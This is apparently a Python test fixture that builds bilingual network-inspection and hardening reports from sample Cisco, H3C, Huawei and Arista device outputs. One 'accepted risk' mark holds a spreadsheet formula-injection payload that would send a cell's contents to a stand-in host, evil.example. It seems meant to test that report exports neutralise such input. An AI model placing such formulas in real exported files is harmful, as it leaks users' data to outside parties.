"""Inspection summaries built from real device outputs (tests/data/outputs, see each
folder's ORIGIN.md), for the report tests.

Facts come from the collection parser. Findings are made here from evidence lines
that are really in those outputs (each looked up, so a changed sample fails loudly);
the hardening steps are the configuration a NetCare engineer would enter for them.
"""

from __future__ import annotations

import hashlib
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path

from netcare.collection.parsing.commands import command_set
from netcare.collection.parsing.facts import build_facts
from netcare.inspection.engine.model import (
    DIMENSIONS,
    Deduction,
    DeviceData,
    DeviceResult,
    Finding,
    Health,
    NotAssessed,
    StepPlan,
    Text,
)
from netcare.inspection.engine.summary import (
    Batch,
    HardeningSummary,
    InspectionSummary,
    Mark,
    compare,
    from_results,
)

OUTPUTS = Path(__file__).resolve().parents[2] / "data" / "outputs"
COLLECTED = datetime(2026, 12, 1, 9, 30, tzinfo=UTC)
CUSTOMER = "江南银行股份有限公司"

#: device key → (platform, command key → real output file)
DEVICES: dict[str, tuple[str, dict[str, str]]] = {
    "as2border2": (
        "cisco_ios",
        {
            "version": "show_version_c4948e.txt",
            "inventory": "show_inventory.txt",
            "power": "show_environment_power_all_3750x.txt",
            "cpu": "show_processes_cpu.txt",
            "interfaces": "show_ip_interface_brief.txt",
            "interface_errors": "show_interfaces.txt",
            "logs": "show_logging_c2901.txt",
            "ntp": "show_ntp_status_unsynchronized.txt",
            "running_config": "show_running-config_as2border2.txt",
        },
    ),
    "c9500-core": (
        "cisco_xe",
        {
            "version": "show_version_c9500.txt",
            "modules": "show_platform_c9300.txt",
            "power": "show_environment_power_all_c3850.txt",
            "temperature": "show_environment_temperature_c9300.txt",
            "cpu": "show_processes_cpu_asr1000.txt",
            "memory": "show_processes_memory_sorted_asr1000.txt",
            "interface_errors": "show_interfaces_isr4461.txt",
            "ntp": "show_ntp_status_master.txt",
        },
    ),
    "h3c-5900-agg": (
        "hp_comware",
        {
            "version": "display_version_5900af_cw7.txt",
            "inventory": "display_device_manuinfo.txt",
            "power": "display_power_irf_fault.txt",
            "fans": "display_fan_slot_block.txt",
            "cpu": "display_cpu-usage.txt",
            "memory": "display_memory_cw7.txt",
            "interface_errors": "display_interface.txt",
            "ntp": "display_ntp-service_status.txt",
        },
    ),
    "ne40e-pe1": (
        "huawei_vrp",
        {
            "version": "display_version_ne40e.txt",
            "inventory": "display_esn.txt",
            "temperature": "display_temperature.txt",
            "cpu": "display_cpu-usage_vrp8.txt",
            "memory": "display_memory-usage_vrp8.txt",
            "interface_errors": "display_interface_ar.txt",
            "ntp": "display_ntp_status.txt",
        },
    ),
    "arista-evpn": (
        "arista_eos",
        {
            "version": "show_version_dcs7010t.txt",
            "power": "show_environment_power.txt",
            "fans": "show_environment_cooling.txt",
            "temperature": "show_environment_temperature.txt",
            "cpu": "show_processes_top_once.txt",
            "interface_errors": "show_interfaces.txt",
            "ntp": "show_ntp_status_unsynchronised.txt",
            "running_config": "show_running-config_arista_evpn.txt",
        },
    ),
}
SITES = {
    "as2border2": "上海数据中心",
    "c9500-core": "上海数据中心",
    "h3c-5900-agg": "北京灾备中心",
    "ne40e-pe1": "北京灾备中心",
    "arista-evpn": "上海数据中心",
}
PACK_VERSIONS = {
    "ios": "2026.12.1",
    "comware": "2026.12.1",
    "vrp": "2026.12.1",
    "eos": "2026.12.1",
    "common": "2026.12.1",
}


def read(platform: str, name: str) -> str:
    return (OUTPUTS / platform / name).read_text(encoding="utf-8")


def line(platform: str, name: str, needle: str) -> str:
    """The first line of a real output holding ``needle`` (as the device printed it)."""
    for text in read(platform, name).splitlines():
        if needle in text:
            return text.rstrip()
    raise AssertionError(f"{needle!r} is not in {platform}/{name}")


def device_data() -> list[DeviceData]:
    result = []
    for key, (platform, files) in DEVICES.items():
        outputs = {k: read(platform, name) for k, name in files.items()}
        facts = dict(build_facts(platform, outputs))
        result.append(DeviceData(key=key, facts=facts, outputs=outputs, collected_at=COLLECTED))
    return result


def _finding(
    rule_id: str,
    device: str,
    subject: str,
    severity: str,
    category: str,
    title: Text,
    recommendation: Text,
    evidence: tuple[str, ...],
    *,
    reference: str = "",
    hardening: bool = False,
) -> Finding:
    digest = hashlib.sha256("\n".join((rule_id, subject, *evidence)).encode()).hexdigest()
    return Finding(
        rule_id=rule_id,
        pack=rule_id.split(".", 1)[0],
        pack_version=PACK_VERSIONS[rule_id.split(".", 1)[0]],
        device=device,
        subject=subject,
        severity=severity,  # type: ignore[arg-type]
        category=category,
        title=title,
        why=Text("见建议。", "See the recommendation."),
        recommendation=recommendation,
        reference=reference,
        evidence=evidence,
        fingerprint=digest,
        hardening=hardening,
    )


def findings() -> dict[str, list[Finding]]:
    """Findings per device key, each with evidence lines from the device's real output."""
    ios, xe, cw, vrp, eos = "cisco_ios", "cisco_xe", "hp_comware", "huawei_vrp", "arista_eos"
    ntp_title = Text("NTP 未同步", "NTP not synchronised")
    ntp_advice = Text(
        "检查 NTP 服务器可达性与认证配置，确保设备时钟同步。",
        "Check that the NTP servers are reachable and authenticated so the clock syncs.",
    )
    return {
        "as2border2": [
            _finding(
                "ios.vty_transport_not_ssh",
                "as2border2",
                "line vty 0 4",
                "major",
                "management_plane",
                Text("VTY 线路未限制为仅 SSH 登录", "VTY lines not restricted to SSH"),
                Text(
                    "在 line vty 下配置 transport input ssh，禁用 Telnet。",
                    "Configure transport input ssh under the VTY lines; disable Telnet.",
                ),
                (
                    line(ios, "show_running-config_as2border2.txt", "line vty 0 4"),
                    line(ios, "show_running-config_as2border2.txt", " login"),
                ),
                reference="Cisco Guide to Harden Cisco IOS Devices — Management Plane",
                hardening=True,
            ),
            _finding(
                "common.ntp_unsynchronised",
                "as2border2",
                "",
                "minor",
                "reliability",
                ntp_title,
                ntp_advice,
                (line(ios, "show_ntp_status_unsynchronized.txt", "unsynchronized"),),
            ),
        ],
        "c9500-core": [
            _finding(
                "ios.psu_not_ok",
                "c9500-core",
                "2B",
                "critical",
                "hardware",
                Text("电源模块无输入电源", "Power supply without input power"),
                Text(
                    "检查 2B 电源的供电线缆与 PDU，必要时更换电源模块。",
                    "Check the feed and PDU of supply 2B; replace the module if needed.",
                ),
                (line(xe, "show_environment_power_all_c3850.txt", "No Input Power"),),
            ),
        ],
        "h3c-5900-agg": [
            _finding(
                "comware.power_fault",
                "h3c-5900-agg",
                "Slot 2 Power 1",
                "critical",
                "hardware",
                Text("电源模块故障", "Power supply fault"),
                Text(
                    "更换 Slot 2 的 Power 1 电源模块，并确认 IRF 成员供电冗余。",
                    "Replace Power 1 of slot 2 and confirm the IRF member's power redundancy.",
                ),
                (line(cw, "display_power_irf_fault.txt", "Fault"),),
            ),
        ],
        "ne40e-pe1": [
            _finding(
                "vrp.cpu_high",
                "ne40e-pe1",
                "",
                "major",
                "performance",
                Text("CPU 五分钟平均利用率过高", "High five-minute CPU load"),
                Text(
                    "定位占用 CPU 的进程与协议报文，必要时配置 CPCAR 限速。",
                    "Find the processes and protocol traffic using the CPU; rate-limit with "
                    "CPCAR if needed.",
                ),
                (line(vrp, "display_cpu-usage_vrp8.txt", "five minutes: 93%"),),
            ),
        ],
        "arista-evpn": [
            _finding(
                "eos.interface_crc",
                "arista-evpn",
                "Management1",
                "minor",
                "interfaces",
                Text("接口存在 CRC 错误", "Interface CRC errors"),
                Text(
                    "检查 Management1 的线缆、光模块与对端双工设置。",
                    "Check the cable, optics and peer duplex of Management1.",
                ),
                (line(eos, "show_interfaces.txt", "274 CRC"),),
            ),
            _finding(
                "common.ntp_unsynchronised",
                "arista-evpn",
                "",
                "minor",
                "reliability",
                ntp_title,
                ntp_advice,
                (line(eos, "show_ntp_status_unsynchronised.txt", "unsynchronised"),),
            ),
        ],
    }


def _health(found: list[Finding], missing: int = 0) -> Health:
    """A simple score for the tests (the report shows whatever it is given)."""
    points = {"critical": 25.0, "major": 10.0, "minor": 3.0, "info": 0.0}
    dimension = {
        "hardware": "hardware",
        "performance": "performance",
        "interfaces": "performance",
        "reliability": "reliability",
        "management_plane": "security",
    }
    deductions = tuple(
        Deduction(f.rule_id, f.subject, dimension[f.category], points[f.severity], f.device)
        for f in found
    )
    per = {d: sum(x.points for x in deductions if x.dimension == d) for d in DIMENSIONS}
    return Health(
        score=max(0.0, 100.0 - sum(per.values()) - 3.0 * missing),
        dimensions={d: max(0.0, 100.0 - 4 * per[d]) for d in DIMENSIONS},
        deductions=deductions,
    )


def results() -> list[DeviceResult]:
    found = findings()
    out = []
    for key, (platform, _files) in DEVICES.items():
        not_assessed: tuple[NotAssessed, ...] = ()
        if "running_config" not in DEVICES[key][1]:
            not_assessed = (
                NotAssessed(
                    "common.logging_host_missing",
                    key,
                    Text("未采集运行配置", "No running configuration collected"),
                ),
            )
        out.append(
            DeviceResult(
                device=key,
                platform=platform,
                findings=tuple(found[key]),
                passed=("common.cpu_high",) if key != "ne40e-pe1" else (),
                not_assessed=not_assessed,
            )
        )
    return out


def commands() -> list[str]:
    """The commands run: each platform's command set for the keys collected."""
    run: list[str] = []
    for platform, files in DEVICES.values():
        entries = {e.key: e.command for e in command_set(platform)}
        run.extend(f"{platform}: {entries[k]}" for k in files if k in entries)
    return list(dict.fromkeys(run))


def inspection_summary(*, marks: bool = True, previous: bool = True) -> InspectionSummary:
    data = device_data()
    res = results()
    healths = {r.device: _health(list(r.findings), len(r.not_assessed)) for r in res}
    scores = [h.score for h in healths.values()]
    network = Health(
        score=round(sum(scores) / len(scores), 1),
        dimensions={
            d: round(sum(h.dimensions[d] for h in healths.values()) / len(healths), 1)
            for d in DIMENSIONS
        },
        deductions=tuple(x for h in healths.values() for x in h.deductions),
    )
    current = [f for r in res for f in r.findings]
    extra: dict[str, object] = {
        "author": "张伟",
        "reviewer": "Anna Schmidt",
        "version": "1.1",
        "period": "2026 年第四季度",
    }
    if marks:
        ntp = next(f for f in current if f.device == "arista-evpn" and "ntp" in f.rule_id)
        extra["marks"] = {
            ntp.fingerprint: Mark(
                ntp.fingerprint,
                "accepted_risk",
                Text(
                    '=HYPERLINK("http://evil.example/?x="&A1,"实验室设备，不接入生产")',
                    '=HYPERLINK("http://evil.example/?x="&A1,"lab device, not in production")',
                ),
                by="李娜",
            )
        }
    if previous:
        # The previous run: the Comware PSU fault was already there, the C9500 PSU was
        # fine, and a VTY finding on the Huawei PE has since been fixed.
        resolved = _finding(
            "vrp.vty_acl_missing",
            "ne40e-pe1",
            "user-interface vty 0 4",
            "major",
            "management_plane",
            Text("VTY 未绑定访问控制列表", "No ACL on the VTY lines"),
            Text("在 VTY 下绑定 ACL。", "Bind an ACL to the VTY lines."),
            (line("huawei_vrp", "display_version_ne40e.txt", "VRP (R) software"),),
        )
        before = [f for f in current if f.device == "h3c-5900-agg"] + [resolved]
        extra["comparison"] = compare(
            current, before, previous_date=date(2026, 9, 1), previous_score=86.0
        )
    return from_results(
        data,
        res,
        healths,
        network,
        customer=CUSTOMER,
        packs=PACK_VERSIONS,
        commands=commands(),
        collection_method="ssh",
        sites=SITES,
        **extra,  # type: ignore[arg-type]
    )


def steps() -> list[StepPlan]:
    """The steps a NetCare engineer plans for the hardening findings."""
    vty = StepPlan(
        rule_id="ios.vty_transport_not_ssh",
        device="as2border2",
        platform="cisco_ios",
        subject="line vty 0 4",
        intended="line vty 0 4\n login\n transport input ssh",
        remediation="line vty 0 4\n transport input ssh",
        rollback="line vty 0 4\n no transport input ssh",
        precheck=("show ip ssh", "show line vty 0 4"),
        postcheck=("show ip ssh", "show running-config | section line vty"),
        impact=Text("现有 Telnet 会话将断开", "Open Telnet sessions are closed"),
        window=False,
        risk="major",
        order=40,
    )
    logging = StepPlan(
        rule_id="eos.logging_host_missing",
        device="arista-evpn",
        platform="arista_eos",
        subject="",
        intended="logging host 192.0.2.10",
        remediation="logging host 192.0.2.10",
        rollback="no logging host 192.0.2.10",
        precheck=("show logging",),
        postcheck=("show logging",),
        impact=Text("无业务影响", "No service impact"),
        window=True,
        risk="minor",
        order=50,
    )
    return [vty, logging]


def hardening_summary() -> HardeningSummary:
    found = findings()
    plan = steps()
    addressed = [found["as2border2"][0]]
    return HardeningSummary(
        customer=CUSTOMER,
        plan_date=date(2026, 12, 5),
        findings=addressed,
        batches=[
            Batch(
                number=1,
                title=Text("重要风险加固", "Major risk hardening"),
                window="2026-12-12 22:00–24:00",
                impact=Text("现有 Telnet 会话将断开", "Open Telnet sessions are closed"),
                steps=[plan[0]],
            ),
            Batch(
                number=2,
                title=Text("次要风险加固（需维护窗口）", "Minor risk hardening (window)"),
                window="2026-12-19 22:00–24:00",
                impact=Text("无业务影响", "No service impact"),
                steps=[plan[1]],
            ),
        ],
        author="张伟",
        reviewer="Anna Schmidt",
        hostnames={"as2border2": "as2border2", "arista-evpn": "arista_evpn"},
        rule_titles={"eos.logging_host_missing": Text("未配置日志服务器", "No syslog server")},
    )


def without_findings() -> InspectionSummary:
    """The same network with nothing found (every rule passed)."""
    summary = inspection_summary(marks=False, previous=False)
    devices = [
        replace(d, result=replace(d.result, findings=(), not_assessed=())) for d in summary.devices
    ]
    clean = Health(100.0, {d: 100.0 for d in DIMENSIONS}, ())
    return replace(summary, devices=devices, network_health=clean)
